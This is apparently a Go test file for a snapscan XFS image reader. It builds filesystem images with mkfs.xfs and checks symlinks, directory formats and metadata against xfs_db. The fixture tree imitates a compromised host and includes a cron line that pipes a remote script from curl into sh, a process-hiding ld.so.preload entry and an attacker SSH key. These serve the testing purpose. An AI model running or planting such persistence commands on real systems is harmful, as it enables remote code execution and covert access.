package xfs

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io/fs"
	"math/rand/v2"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/snapscan/snapscan/fsread"
	"github.com/snapscan/snapscan/internal/testimg"
)

// spec is one entry of the tree the tests put into an image with
// mkfs.xfs -p, and what reading it back must yield.
type spec struct {
	path         string
	kind         byte // - d l c b p, as in a proto file
	perm         fs.FileMode
	suid, sgid   bool
	uid, gid     uint32
	data         []byte
	target       string
	major, minor int
}

func (s spec) mode() fs.FileMode {
	m := s.perm
	if s.suid {
		m |= fs.ModeSetuid
	}
	if s.sgid {
		m |= fs.ModeSetgid
	}
	switch s.kind {
	case 'd':
		m |= fs.ModeDir
	case 'l':
		m |= fs.ModeSymlink
	case 'c':
		m |= fs.ModeDevice | fs.ModeCharDevice
	case 'b':
		m |= fs.ModeDevice
	case 'p':
		m |= fs.ModeNamedPipe
	}
	return m
}

// testTree is deterministic, so every variant holds the same content. It
// covers each directory format (short form, block, leaf, node), inline
// and remote symlinks, devices, special mode bits and unusual owners.
//
// Remote symlinks are left out on v5: mkfs.xfs 6.1 -p writes their blocks
// without the v5 header (xfs_repair -n flags them), so the kernel test adds
// them through a mount instead.
func testTree(remoteLinks bool) []spec {
	rng := rand.New(rand.NewPCG(1, 2))
	blob := func(n int) []byte {
		b := make([]byte, n)
		for i := range b {
			b[i] = byte(rng.UintN(256))
		}
		return b
	}
	dir := func(p string, perm fs.FileMode, uid, gid uint32) spec {
		return spec{path: p, kind: 'd', perm: perm, uid: uid, gid: gid}
	}
	file := func(p string, perm fs.FileMode, uid, gid uint32, data []byte) spec {
		return spec{path: p, kind: '-', perm: perm, uid: uid, gid: gid, data: data}
	}
	link := func(p, target string) spec {
		return spec{path: p, kind: 'l', perm: 0o777, target: target}
	}
	out := []spec{
		dir("etc", 0o755, 0, 0),
		file("etc/passwd", 0o644, 0, 0, []byte("root:x:0:0:root:/root:/bin/bash\nminer:x:1234:5678::/home/miner:/bin/sh\n")),
		file("etc/shadow", 0o640, 0, 42, []byte("root:*:19000:0:99999:7:::\n")),
		file("etc/ld.so.preload", 0o644, 0, 0, []byte("/usr/lib/libprocesshider.so\n")),
		dir("etc/cron.d", 0o755, 0, 0),
		file("etc/cron.d/miner", 0o644, 0, 0, []byte("* * * * * root curl -s http://x/y.sh | sh\n")),
		dir("bin", 0o755, 0, 0),
		file("bin/busybox", 0o755, 0, 0, blob(5<<20+123)),
		{path: "bin/su", kind: '-', perm: 0o755, suid: true, data: []byte("#!/bin/sh\nsu\n")},
		{path: "bin/wall", kind: '-', perm: 0o755, sgid: true, gid: 5, data: []byte("#!/bin/sh\nwall\n")},
		file("empty", 0o600, 0, 0, nil),
		file("odd-owner", 0o4711&0o777, 1234, 5678, []byte("owned by 1234:5678\n")),
		file("big-ids", 0o644, 70000, 4000000000, []byte("large ids\n")),
		dir("home", 0o755, 0, 0),
		dir("home/miner", 0o700, 1234, 5678),
		dir("home/miner/.ssh", 0o700, 1234, 5678),
		file("home/miner/.ssh/authorized_keys", 0o600, 1234, 5678, []byte("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBad attacker\n")),
		dir("dev", 0o755, 0, 0),
		{path: "dev/null", kind: 'c', perm: 0o666, major: 1, minor: 3},
		{path: "dev/sda", kind: 'b', perm: 0o660, gid: 6, major: 8, minor: 0},
		{path: "dev/fifo", kind: 'p', perm: 0o644},
		dir("links", 0o755, 0, 0),
		link("links/rel", "../etc/passwd"),
		link("links/abs", "/etc/passwd"),
		link("links/dangling", "/nonexistent/file"),
		link("links/loop1", "loop2"),
		link("links/loop2", "loop1"),
		link("links/todir", "/home/miner"),
		dir("small", 0o755, 0, 0),
		file("small/a", 0o644, 0, 0, []byte("a\n")),
		file("small/b", 0o644, 0, 0, []byte("b\n")),
		link("small/c", "a"),
		dir("longnames", 0o755, 0, 0),
		file("longnames/"+strings.Repeat("n", 255), 0o644, 0, 0, []byte("255\n")),
		file("longnames/"+strings.Repeat("m", 200)+".txt", 0o644, 0, 0, []byte("204\n")),
		file("longnames/x", 0o644, 0, 0, []byte("1\n")),
	}
	for _, d := range []struct {
		name string
		n    int
	}{{"blockdir", 20}, {"leafdir", 150}, {"bigdir", 1000}} {
		out = append(out, dir(d.name, 0o755, 0, 0))
		for i := 0; i < d.n; i++ {
			out = append(out, file(fmt.Sprintf("%s/entry-%04d-%s", d.name, i, strings.Repeat("z", i%13)), 0o644, uint32(i%7), uint32(i%5),
				[]byte(fmt.Sprintf("%s file %d\n", d.name, i))))
		}
	}
	if remoteLinks {
		out = append(out, remoteLinkSpecs()...)
	}
	// A middling file: several blocks, not a whole number of them.
	out = append(out, file("bin/middle", 0o755, 0, 0, blob(70001)))
	return out
}

// remoteLinkSpecs are targets too long for the inode literal area.
func remoteLinkSpecs() []spec {
	return []spec{
		{path: "links/remote400", kind: 'l', perm: 0o777, target: "/" + strings.Repeat("r", 398) + "x"},
		{path: "links/remote1000", kind: 'l', perm: 0o777, target: "/" + strings.Repeat("abcdefghi/", 99) + "123456789"},
	}
}

// writeProto writes the host files of tree under dir and returns the
// mkfs.xfs proto file naming them.
func writeProto(t testing.TB, dir string, tree []spec) string {
	children := map[string][]spec{}
	for _, s := range tree {
		children[path.Dir(s.path)] = append(children[path.Dir(s.path)], s)
	}
	var b strings.Builder
	b.WriteString("snapscan\n0 0\nd--755 0 0\n")
	n := 0
	var emit func(parent string)
	emit = func(parent string) {
		for _, s := range children[parent] {
			u, g := "-", "-"
			if s.suid {
				u = "u"
			}
			if s.sgid {
				g = "g"
			}
			fmt.Fprintf(&b, "%s %c%s%s%03o %d %d", path.Base(s.path), s.kind, u, g, s.perm, s.uid, s.gid)
			switch s.kind {
			case '-':
				host := filepath.Join(dir, fmt.Sprintf("f%05d", n))
				n++
				if err := os.WriteFile(host, s.data, 0o600); err != nil {
					t.Fatal(err)
				}
				fmt.Fprintf(&b, " %s\n", host)
			case 'l':
				fmt.Fprintf(&b, " %s\n", s.target)
			case 'c', 'b':
				fmt.Fprintf(&b, " %d %d\n", s.major, s.minor)
			case 'd':
				b.WriteString("\n")
				emit(s.path)
				b.WriteString("$\n")
			default:
				b.WriteString("\n")
			}
		}
	}
	emit(".")
	b.WriteString("$\n")
	p := filepath.Join(dir, "proto")
	if err := os.WriteFile(p, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

type variant struct {
	name string
	args []string
}

func (v variant) v4() bool { return strings.HasPrefix(v.name, "v4") }

func (v variant) tree() []spec { return testTree(v.v4()) }

var variants = []variant{
	{"v5", nil},
	{"v5-1k-dir8k", []string{"-b", "size=1024", "-n", "size=8192"}},
	{"v5-nobigtime", []string{"-m", "bigtime=0,inobtcount=0"}},
	{"v4", []string{"-m", "crc=0", "-i", "size=256"}},
	{"v4-noftype", []string{"-m", "crc=0", "-n", "ftype=0"}},
}

func needTool(t testing.TB, name string) {
	t.Helper()
	if _, err := exec.LookPath(name); err != nil {
		t.Skipf("needs %s (xfsprogs)", name)
	}
}

var (
	imgMu    sync.Mutex
	imgCache = map[string]string{}
	imgDir   string
)

// TestMain removes the images built once per test binary.
func TestMain(m *testing.M) {
	code := m.Run()
	if imgDir != "" {
		os.RemoveAll(imgDir)
	}
	os.Exit(code)
}

// removeStaleDirs deletes the image directories of test processes that no
// longer run: fuzz workers are killed, TestMain's cleanup never runs there.
func removeStaleDirs() {
	dirs, _ := filepath.Glob(filepath.Join(os.TempDir(), "snapscan-xfs-test-*"))
	for _, d := range dirs {
		pid := strings.TrimPrefix(filepath.Base(d), "snapscan-xfs-test-")
		if _, err := os.Stat("/proc/" + pid); os.IsNotExist(err) {
			os.RemoveAll(d)
		}
	}
}

// buildImage makes (once per test binary) a 32 MiB sparse image of the
// test tree with mkfs.xfs -p. mkfs.xfs 6.1 refuses filesystems under
// 300 MB unless the fstests variables are set, which is their purpose.
func buildImage(t testing.TB, v variant) string {
	t.Helper()
	needTool(t, "mkfs.xfs")
	imgMu.Lock()
	defer imgMu.Unlock()
	if p, ok := imgCache[v.name]; ok {
		return p
	}
	if imgDir == "" {
		removeStaleDirs()
		imgDir = filepath.Join(os.TempDir(), fmt.Sprintf("snapscan-xfs-test-%d", os.Getpid()))
		if err := os.MkdirAll(imgDir, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	dir := filepath.Join(imgDir, v.name)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	proto := writeProto(t, dir, v.tree())
	img := filepath.Join(imgDir, v.name+".img")
	if err := os.WriteFile(img, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Truncate(img, 32<<20); err != nil {
		t.Fatal(err)
	}
	args := append([]string{"-q", "-f", "-L", "snap-" + v.name[:2]}, v.args...)
	args = append(args, "-p", proto, img)
	cmd := exec.Command("mkfs.xfs", args...)
	cmd.Env = append(os.Environ(), "TEST_DIR=1", "TEST_DEV=1", "QA_CHECK_FS=1")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("mkfs.xfs %v: %v\n%s", args, err, out)
	}
	os.RemoveAll(dir)
	imgCache[v.name] = img
	return img
}

func openImage(t testing.TB, img string) fsread.FS { return testimg.OpenFS(t, img, New) }

func sum(b []byte) string { return fmt.Sprintf("%x", sha256.Sum256(b)) }

// TestTree reads every variant back and compares it with what went in.
func TestTree(t *testing.T) {
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			tree := v.tree()
			fsys := openImage(t, buildImage(t, v))
			want := map[string]spec{}
			for _, s := range tree {
				want[s.path] = s
			}
			seen := 0
			err := fsread.Walk(fsys, ".", func(p string, d fs.DirEntry, err error) error {
				if err != nil {
					t.Errorf("%s: %v", p, err)
					return nil
				}
				if p == "." {
					return nil
				}
				s, ok := want[p]
				if !ok {
					t.Errorf("%s: in the image, not in the tree", p)
					return nil
				}
				seen++
				checkEntry(t, fsys, s, d)
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
			if seen != len(tree) {
				t.Errorf("walk saw %d entries, tree has %d", seen, len(tree))
			}
			t.Logf("%s: %d entries compared", v.name, seen)
		})
	}
}

func checkEntry(t *testing.T, fsys fsread.FS, s spec, d fs.DirEntry) {
	t.Helper()
	if d.Type() != s.mode().Type() {
		t.Errorf("%s: dirent type %v, want %v", s.path, d.Type(), s.mode().Type())
	}
	fi, err := d.Info()
	if err != nil {
		t.Errorf("%s: %v", s.path, err)
		return
	}
	m := fsread.MetaOf(fi)
	if m.Mode != s.mode() {
		t.Errorf("%s: mode %v, want %v", s.path, m.Mode, s.mode())
	}
	if !m.HasOwner || m.UID != s.uid || m.GID != s.gid {
		t.Errorf("%s: owner %d:%d (%v), want %d:%d", s.path, m.UID, m.GID, m.HasOwner, s.uid, s.gid)
	}
	if m.Mtime.IsZero() || m.Ctime.IsZero() || m.Atime.IsZero() || m.Inode == 0 {
		t.Errorf("%s: missing times or inode: %+v", s.path, m)
	}
	if fi.Name() != path.Base(s.path) {
		t.Errorf("%s: name %q", s.path, fi.Name())
	}
	switch s.kind {
	case '-':
		if m.Size != int64(len(s.data)) {
			t.Errorf("%s: size %d, want %d", s.path, m.Size, len(s.data))
		}
		got, err := fs.ReadFile(fsys, s.path)
		if err != nil {
			t.Errorf("%s: %v", s.path, err)
		} else if sum(got) != sum(s.data) {
			t.Errorf("%s: content differs (%d bytes read)", s.path, len(got))
		}
	case 'l':
		got, err := fsys.ReadLink(s.path)
		if err != nil || got != s.target || m.LinkTarget != s.target {
			t.Errorf("%s: ReadLink %q (%v), Meta %q, want %q", s.path, got, err, m.LinkTarget, s.target)
		}
		if m.Size != int64(len(s.target)) {
			t.Errorf("%s: link size %d", s.path, m.Size)
		}
	case 'd':
		if m.Nlink < 2 {
			t.Errorf("%s: nlink %d", s.path, m.Nlink)
		}
	}
}

// TestResolve checks symlink following through the image, not the host.
func TestResolve(t *testing.T) {
	fsys := openImage(t, buildImage(t, variants[0]))
	passwd := variants[0].tree()[1].data
	for _, tc := range []struct {
		name    string
		want    []byte
		wantErr error
	}{
		{"links/rel", passwd, nil},
		{"links/abs", passwd, nil},
		{"links/todir/.ssh/authorized_keys", nil, nil},
		{"links/dangling", nil, fs.ErrNotExist},
		{"links/loop1", nil, fsread.ErrLinkLoop},
		{"small/c", []byte("a\n"), nil},
		{"bigdir/entry-0999-zzzzzzzzzzz", []byte("bigdir file 999\n"), nil},
		{"bigdir/absent", nil, fs.ErrNotExist},
		{"etc/passwd/x", nil, fsread.ErrNotDir},
	} {
		got, err := fs.ReadFile(fsys, tc.name)
		if tc.wantErr != nil {
			if !errorsIs(err, tc.wantErr) {
				t.Errorf("%s: error %v, want %v", tc.name, err, tc.wantErr)
			}
			continue
		}
		if err != nil {
			t.Errorf("%s: %v", tc.name, err)
			continue
		}
		if tc.want != nil && !bytes.Equal(got, tc.want) {
			t.Errorf("%s: %q", tc.name, got)
		}
	}
	if _, err := fsys.Open("dev/null"); err == nil {
		t.Error("opening a device node succeeded")
	}
}

// TestXFSDB compares directory listings, inode numbers and owners with
// xfs_db, which reads the image with the xfsprogs code, for every
// directory format and every variant.
func TestXFSDB(t *testing.T) {
	needTool(t, "xfs_db")
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			img := buildImage(t, v)
			fsys := openImage(t, img)
			compared := 0
			defer func() { t.Logf("%s: %d entries compared with xfs_db ls", v.name, compared) }()
			for _, dir := range []string{"/", "/small", "/blockdir", "/leafdir", "/bigdir", "/longnames", "/links"} {
				out, err := exec.Command("xfs_db", "-r", "-c", "ls "+dir, img).CombinedOutput()
				if err != nil {
					t.Fatalf("xfs_db ls %s: %v\n%s", dir, err, out)
				}
				want := map[string]uint64{}
				for _, line := range strings.Split(string(out), "\n") {
					f := strings.Fields(line)
					if len(f) < 6 || f[len(f)-1] != "(good)" {
						continue
					}
					var ino uint64
					fmt.Sscan(f[1], &ino)
					name := f[len(f)-2]
					if name != "." && name != ".." {
						want[name] = ino
					}
				}
				ents, err := fsys.ReadDir(strings.TrimPrefix(dir, "/") + map[bool]string{true: ".", false: ""}[dir == "/"])
				if err != nil {
					t.Fatal(err)
				}
				compared += len(ents)
				if len(ents) != len(want) {
					t.Errorf("%s: %d entries, xfs_db lists %d", dir, len(ents), len(want))
				}
				for _, e := range ents {
					fi, err := e.Info()
					if err != nil {
						t.Fatal(err)
					}
					if ino, ok := want[e.Name()]; !ok || ino != fsread.MetaOf(fi).Inode {
						t.Errorf("%s/%s: inode %d, xfs_db %d (%v)", dir, e.Name(), fsread.MetaOf(fi).Inode, ino, ok)
					}
				}
			}
		})
	}
}

// TestProbe checks the superblock facts against xfs_db's view.
func TestProbe(t *testing.T) {
	needTool(t, "xfs_db")
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			img := buildImage(t, v)
			f, err := os.Open(img)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			inf, err := Probe(f)
			if err != nil {
				t.Fatal(err)
			}
			out, err := exec.Command("xfs_db", "-r", "-c", "sb 0", "-c", "print uuid blocksize fname", "-c", "version", img).CombinedOutput()
			if err != nil {
				t.Fatalf("%v: %s", err, out)
			}
			db := string(out)
			if !strings.Contains(db, "uuid = "+inf.UUID) {
				t.Errorf("uuid %s not in xfs_db output:\n%s", inf.UUID, db)
			}
			if !strings.Contains(db, fmt.Sprintf("blocksize = %d\n", inf.BlockSize)) {
				t.Errorf("block size %d not in:\n%s", inf.BlockSize, db)
			}
			if inf.Label != "snap-"+v.name[:2] || !strings.Contains(db, `fname = "`+inf.Label) {
				t.Errorf("label %q", inf.Label)
			}
			if !strings.Contains(db, fmt.Sprintf("= V%d,", inf.Version)) {
				t.Errorf("version %d not in:\n%s", inf.Version, db)
			}
			for feat, flag := range map[string]string{"crc": "CRC", "ftype": "FTYPE", "reflink": "REFLINK", "bigtime": "BIGTIME", "sparse": "SPARSE_INODES", "finobt": "FINOBT"} {
				if slices.Contains(inf.Features, feat) != strings.Contains(db, flag) {
					t.Errorf("feature %s: ours %v, xfs_db says %s", feat, inf.Features, strings.TrimSpace(db[strings.Index(db, "versionnum"):]))
				}
			}
		})
	}
}

func errorsIs(err, target error) bool {
	for err != nil {
		if err == target {
			return true
		}
		switch e := err.(type) {
		case interface{ Unwrap() error }:
			err = e.Unwrap()
		case interface{ Unwrap() []error }:
			for _, x := range e.Unwrap() {
				if errorsIs(x, target) {
					return true
				}
			}
			return false
		default:
			return false
		}
	}
	return false
}

// TestDirFormats makes sure the tree really exercises every directory
// format, as xfs_db sees them: the leaf block sits at 32 GiB in the
// directory, the free-index block of a node directory at 64 GiB.
func TestDirFormats(t *testing.T) {
	needTool(t, "xfs_db")
	for _, v := range variants {
		t.Run(v.name, func(t *testing.T) {
			img := buildImage(t, v)
			fsys := openImage(t, img)
			inf, _ := InfoOf(fsys)
			leaf := fmt.Sprintf("data offset %d ", (uint64(1)<<35)/uint64(inf.BlockSize))
			free := fmt.Sprintf("data offset %d ", (uint64(1)<<36)/uint64(inf.BlockSize))
			for _, tc := range []struct {
				dir            string
				formats        []string
				hasLeaf, hasFr bool
			}{
				{"small", []string{"1 (local)"}, false, false},
				{"blockdir", []string{"2 (extents)"}, false, false},
				{"leafdir", []string{"2 (extents)"}, true, false},
				// With 256-byte inodes the node directory's map no longer
				// fits the inode: a bmap btree.
				{"bigdir", []string{"2 (extents)", "3 (btree)"}, true, true},
			} {
				if inf.DirBlock >= 8192 && tc.hasLeaf {
					// Twice the room per directory block: one format down.
					tc.hasLeaf, tc.hasFr = tc.hasFr, false
				}
				fi, err := fsys.Stat(tc.dir)
				if err != nil {
					t.Fatal(err)
				}
				ino := fsread.MetaOf(fi).Inode
				out, err := exec.Command("xfs_db", "-r", "-c", fmt.Sprintf("inode %d", ino), "-c", "print core.format", "-c", "bmap", img).CombinedOutput()
				if err != nil {
					t.Fatalf("%v: %s", err, out)
				}
				s := string(out)
				okFormat := slices.ContainsFunc(tc.formats, func(f string) bool { return strings.Contains(s, "core.format = "+f) })
				if strings.Contains(s, "(btree)") {
					t.Logf("%s: %s is a btree-format directory", v.name, tc.dir)
				}
				if !okFormat || strings.Contains(s, leaf) != tc.hasLeaf || strings.Contains(s, free) != tc.hasFr {
					t.Errorf("%s is not in the intended format:\n%s", tc.dir, s)
				}
			}
		})
	}
}
